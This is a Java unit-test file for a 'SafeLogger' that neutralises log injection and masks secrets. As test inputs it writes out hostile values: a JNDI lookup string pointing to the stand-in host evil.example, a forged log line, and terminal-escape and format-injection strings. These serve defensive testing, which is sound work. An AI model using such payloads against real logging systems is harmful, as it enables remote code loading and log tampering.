package io.github.secureblocks.log;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import ch.qos.logback.classic.Level;
import io.github.secureblocks.secret.Secret;
import io.github.secureblocks.text.OneLine;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SafeLoggerTest {
    private static final String FORGED = "ada\nINFO admin logged in";

    private final LogFile file = new LogFile();
    private final SafeLogger log = file.safe();

    @Test
    void writesOneLineWhereARawLoggerLetsAValueForgeASecond() {
        file.raw().info("log-in failed for {}", FORGED);
        assertThat(file.take().lines())
                .as("raw: the second line is the attacker's")
                .containsExactly("INFO log-in failed for ada", "INFO admin logged in");

        log.info("log-in failed for {}", FORGED);
        assertThat(file.take()).isEqualTo("INFO log-in failed for ada\\nINFO admin logged in\n");
    }

    @Test
    void writesOneLineForEveryCodePoint() {
        for (int from = 0; from <= Character.MAX_CODE_POINT; from += 0x1000) {
            for (int point = from; point < from + 0x1000; point++) {
                String value = point < 0x10000 ? String.valueOf((char) point) : Character.toString(point);
                log.info("a{}z", value);
            }
            String written = file.take();
            assertThat(written.chars().filter(c -> c == '\n').count()).isEqualTo(0x1000);
            assertThat(written.lines().allMatch(line -> line.startsWith("INFO a") && line.endsWith("z")))
                    .isTrue();
            assertThat(written.codePoints().filter(c -> c != '\n').noneMatch(SafeLoggerTest::movesTheCursor))
                    .isTrue();
        }
    }

    private static boolean movesTheCursor(int point) {
        return switch (Character.getType(point)) {
            case Character.CONTROL, Character.FORMAT, Character.LINE_SEPARATOR, Character.PARAGRAPH_SEPARATOR -> true;
            default -> false;
        };
    }

    @Test
    void neutralisesEveryValueAtEveryLevelAndInEveryNumber() {
        log.trace("x");
        log.trace("x {}", FORGED);
        log.trace("x {} {}", FORGED, FORGED);
        log.trace("x {} {} {}", FORGED, FORGED, FORGED);
        log.trace("x {} {} {} {}", FORGED, FORGED, FORGED, FORGED);
        log.debug("x");
        log.debug("x {}", FORGED);
        log.debug("x {} {}", FORGED, FORGED);
        log.debug("x {} {} {}", FORGED, FORGED, FORGED);
        log.debug("x {} {} {} {}", FORGED, FORGED, FORGED, FORGED);
        log.info("x");
        log.info("x {}", FORGED);
        log.info("x {} {}", FORGED, FORGED);
        log.info("x {} {} {}", FORGED, FORGED, FORGED);
        log.info("x {} {} {} {}", FORGED, FORGED, FORGED, FORGED);
        log.warn("x");
        log.warn("x {}", FORGED);
        log.warn("x {} {}", FORGED, FORGED);
        log.warn("x {} {} {}", FORGED, FORGED, FORGED);
        log.warn("x {} {} {} {}", FORGED, FORGED, FORGED, FORGED);
        log.error("x");
        log.error("x {}", FORGED);
        log.error("x {} {}", FORGED, FORGED);
        log.error("x {} {} {}", FORGED, FORGED, FORGED);
        log.error("x {} {} {} {}", FORGED, FORGED, FORGED, FORGED);

        List<String> expected = new ArrayList<>();
        for (String level : List.of("TRACE", "DEBUG", "INFO", "WARN", "ERROR")) {
            for (int values = 0; values <= 4; values++) {
                expected.add(level + " x" + " ada\\nINFO admin logged in".repeat(values));
            }
        }
        assertThat(file.take().lines()).containsExactlyElementsOf(expected);
    }

    @Test
    void formatsNothingWhileTheLevelIsOff() {
        AtomicInteger asked = new AtomicInteger();
        Object value = new Object() {
            @Override
            public String toString() {
                asked.incrementAndGet();
                return "x";
            }
        };
        file.raw().setLevel(Level.OFF);
        log.trace("{}", value);
        log.debug("{} {}", value, value);
        log.info("{} {} {}", value, value, value);
        log.warn("{} {} {} {}", value, value, value, value);
        log.error("{}", value);
        assertThat(asked).hasValue(0);

        file.raw().setLevel(Level.ERROR);
        log.warn("{}", value);
        log.error("{}", value);
        assertThat(asked).hasValue(1);
        assertThat(file.take()).isEqualTo("ERROR x\n");
    }

    @Test
    void doesNotPrintASecret() {
        log.info("connecting with {} and {}", Secret.of("hunter2"), Map.of("password", Secret.of("hunter2")));

        assertThat(file.take()).isEqualTo("INFO connecting with Secret[unnamed] and {password=Secret[unnamed]}\n");
    }

    @Test
    void writesValuesInTheirHolesAndLeavesTheRest() {
        log.info("{} and {}", 1);
        log.info("{}", 1, 2, 3);
        log.info("none", 1);
        log.info("{}", (Object) null);
        log.info("{}", (Object[]) null);
        log.info("{} {} {} {}", new Object[] {1, null, "a{}b", '{'});
        log.info("set \\{} to {}", 1);
        log.info("path \\\\{}", "x");
        log.info("price ${}", 5);
        log.info("Gr\u00f6\u00dfe {}", "\u20ac");

        assertThat(file.take().lines())
                .containsExactly(
                        "INFO 1 and {}",
                        "INFO 1",
                        "INFO none",
                        "INFO null",
                        "INFO null",
                        "INFO 1 null a{}b {",
                        "INFO set {} to 1",
                        "INFO path \\x",
                        "INFO price $5",
                        "INFO Gr\u00f6\u00dfe \u20ac");
    }

    @ParameterizedTest
    @ValueSource(strings = {"${jndi:ldap://evil.example/a}", "%n%msg", "\u001b[2J", "\u202egnp", "{}"})
    void givesALaterLookUpOrTerminalNothingToRead(String value) {
        log.info("{}", value);

        assertThat(file.take())
                .isEqualTo("INFO " + OneLine.of(value) + "\n")
                .doesNotContain("${")
                .doesNotContain("\u001b");
    }

    @Test
    void survivesValuesThatMisbehave() {
        Object throwing = new Object() {
            @Override
            public String toString() {
                throw new IllegalStateException(FORGED);
            }
        };
        Object nothing = new Object() {
            @Override
            public String toString() {
                return null;
            }
        };
        List<Object> itself = new ArrayList<>();
        List<Object> mirror = new ArrayList<>(List.of(itself));
        itself.add(mirror);
        assertThatCode(() -> {
                    log.info("{}", throwing);
                    log.info("{}", nothing);
                    log.info("{}", itself);
                    log.info("{}", "\n".repeat(5_000_000));
                })
                .doesNotThrowAnyException();

        List<String> lines = file.take().lines().toList();
        assertThat(lines).hasSize(4).allSatisfy(line -> assertThat(line).hasSizeLessThan(6_100));
        assertThat(lines.get(0)).endsWith("(toString failed)").doesNotContain("ada");
        assertThat(lines.get(1)).isEqualTo("INFO null");
        assertThat(lines.get(2)).isEqualTo("INFO java.util.ArrayList (toString failed)");
        assertThat(lines.get(3)).endsWith("...(4999000 more)");
    }

    @Test
    void writesOneLineEvenWhereTheMessageIsNotConstant() {
        String built = "hello " + FORGED.toLowerCase(Locale.ROOT);

        log.info(built);

        assertThat(file.take()).isEqualTo("INFO hello ada\\ninfo admin logged in\n");
    }

    @Test
    void keepsTheConstantMessageAndTheCallersPlaceForTheUnderlyingLogger() {
        LogFile places = new LogFile("%class{0}.%method %msg%n");
        places.safe().info("note {} saved", 7);

        assertThat(places.take())
                .isEqualTo(
                        "SafeLoggerTest.keepsTheConstantMessageAndTheCallersPlaceForTheUnderlyingLogger note 7 saved\n");
    }
}
